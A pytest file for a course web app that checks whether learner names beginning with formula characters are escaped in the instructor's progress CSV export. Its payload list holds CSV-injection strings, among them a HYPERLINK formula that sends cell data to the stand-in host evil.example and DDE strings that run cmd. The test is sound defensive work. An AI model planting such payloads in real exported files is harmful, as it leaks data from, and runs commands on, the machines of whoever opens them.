"""Issue 10, item 17: a learner's name (set through the profile form) that begins with a formula character
must not run as a formula when the instructor opens the progress CSV in a spreadsheet program."""
from __future__ import annotations

import csv
import io

import pytest

from tests.conftest import csrf_token

COURSE = "test-course"
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1 tab", "\r=1+1 cr"]


def _progress_rows(client) -> list[list[str]]:
    r = client.get(f"/teach/{COURSE}/progress.csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"))))


@pytest.mark.parametrize("name", PAYLOADS)
def test_progress_csv_cells_never_start_a_formula(app, client, auth, users, synced, name):
    users.create("instructor@fablab.kg", "Instructor", role="instructor")
    users.create("mallory@example.org", "Mallory")
    auth.login("mallory@example.org")
    assert auth.post(f"/courses/{COURSE}/enrol").status_code == 303
    r = client.post("/account", data={"name": name, "locale": "", "csrf_token": csrf_token(client, "/account")})
    assert r.status_code == 303
    client.post("/logout", data={"csrf_token": csrf_token(client, "/courses/")})
    auth.login("instructor@fablab.kg")
    (_header, *rows) = _progress_rows(client)
    (row,) = [row for row in rows if row[1] == "mallory@example.org"]
    # OWASP's advice: such a cell is read as text when it begins with a single quote.
    assert row[0].startswith("'") and row[0][1:].strip() == name.strip()  # the profile form strips the name
    for cells in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells), cells


def test_ordinary_values_are_left_alone(app, client, auth, users, synced):
    users.create("instructor@fablab.kg", "Instructor", role="instructor")
    users.create("mirlan@school.kg", "Чыныбаев Мирлан Үңөөвич")
    auth.login("mirlan@school.kg")
    assert auth.post(f"/courses/{COURSE}/enrol").status_code == 303
    client.post("/logout", data={"csrf_token": csrf_token(client, "/courses/")})
    auth.login("instructor@fablab.kg")
    (header, row) = _progress_rows(client)
    assert header[:6] == ["name", "email", "enrolled_at", "lessons_done", "lessons_total", "percent"]
    assert row[:2] == ["Чыныбаев Мирлан Үңөөвич", "mirlan@school.kg"] and row[3] == "0"
